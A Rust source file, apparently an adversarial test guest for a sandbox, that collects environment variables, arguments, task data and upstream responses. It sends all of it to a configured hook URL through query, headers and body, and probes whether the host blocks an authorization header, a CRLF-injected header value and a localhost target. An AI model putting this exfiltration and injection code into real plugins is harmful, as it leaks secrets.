//! Tells everything that it can learn, wherever it can: environment, arguments, endpoint, task, the whole answer of
//! `config.api_url` (headers too) by both ways out, and the refusals of requests that it may not make. It is
//! written to the log, standard output and standard error, stored under the key `told`, sent to `config.hook`
//! as headers, query and body, and replied. With `config.panic` = true it ends in a panic with it.

use airlock_adaptor::direct_api::DirectApi;
use airlock_adaptor::serde_json::{Value, json};
use airlock_adaptor::{
    AdaptorError, EndpointAdaptor, EndpointInfo, Reply, Task, UpstreamRequest, error, key_value, outgoing,
    upstream,
};
use airlock_guests::{endpoint_json, refusal, settings, task_json, text};

struct Tell;

impl EndpointAdaptor for Tell {
    fn validate(_: &EndpointInfo) -> Result<(), AdaptorError> {
        Ok(())
    }

    fn submit_task(endpoint: EndpointInfo, task: Task) -> Result<Reply, AdaptorError> {
        let config = settings(&endpoint);
        let request = DirectApi::new(&endpoint)?.request(&task)?;
        let told = json!({
            "env": environment(),
            "args": std::env::args().collect::<Vec<_>>(),
            "endpoint": endpoint_json(&endpoint),
            "task": task_json(&task),
            "answers": [by_upstream(&request), by_wasi_http(&request, &task.body)],
            "refusals": refusals(&request),
        });
        let all = told.to_string();
        for piece in all.as_bytes().chunks(4 << 10) {
            error!("{}", String::from_utf8_lossy(piece));
        }
        println!("{all}");
        eprintln!("{all}");
        let _ = key_value::set("told", all.as_bytes(), None);
        let sent = send_on(text(&config, "hook"), &all);
        assert!(config["panic"] != true, "{all}");
        Reply::json(&json!({"told": told, "sent": sent}))
    }
}

#[expect(clippy::disallowed_methods, reason = "to look is this guest's business")]
fn environment() -> Vec<(String, String)> {
    std::env::vars().collect()
}

fn by_upstream(request: &UpstreamRequest) -> Value {
    upstream::send(request).map_or_else(refusal, |response| {
        let body = upstream::read_all(&response, 1 << 20).unwrap_or_default();
        json!({"headers": response.headers(), "body": String::from_utf8_lossy(&body)})
    })
}

fn by_wasi_http(request: &UpstreamRequest, own_body: &[u8]) -> Value {
    outgoing::send(request, own_body).map_or_else(refusal, |response| {
        let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
        let headers: Vec<_> =
            response.headers().entries().into_iter().map(|(name, value)| (name, text(value))).collect();
        json!({"headers": headers})
    })
}

/// What the host says about requests that it does not send.
fn refusals(request: &UpstreamRequest) -> Vec<Value> {
    let with = |name: &str| {
        let mut request = request.clone();
        request.headers.push((name.to_owned(), "x".to_owned()));
        request
    };
    let to = |url: &str| UpstreamRequest { url: url.to_owned(), ..request.clone() };
    [with("authorization"), with("a\r\nb"), to("http://127.0.0.1:1/"), to("nonsense")]
        .iter()
        .flat_map(|request| [by_upstream(request), by_wasi_http(request, b"")])
        .collect()
}

/// To the hook by both ways, in every part of a request that takes text.
fn send_on(hook: &str, all: &str) -> Vec<Value> {
    let hexadecimal: String = all.bytes().map(|byte| format!("{byte:02x}")).collect();
    let header: String = all.chars().filter(|c| c.is_ascii_graphic()).take(8_000).collect();
    let request = UpstreamRequest {
        method: "POST".to_owned(),
        url: format!("{hook}?told={}", &hexadecimal[..hexadecimal.len().min(16_000)]),
        headers: vec![("x-told".to_owned(), header)],
        body: Some(all.as_bytes().to_vec()),
        timeout_ms: Some(5_000),
    };
    vec![
        upstream::send(&request).map_or_else(refusal, |response| json!(response.status())),
        outgoing::send(&request, b"").map_or_else(refusal, |response| json!(response.status())),
    ]
}

airlock_adaptor::export_endpoint!(Tell);
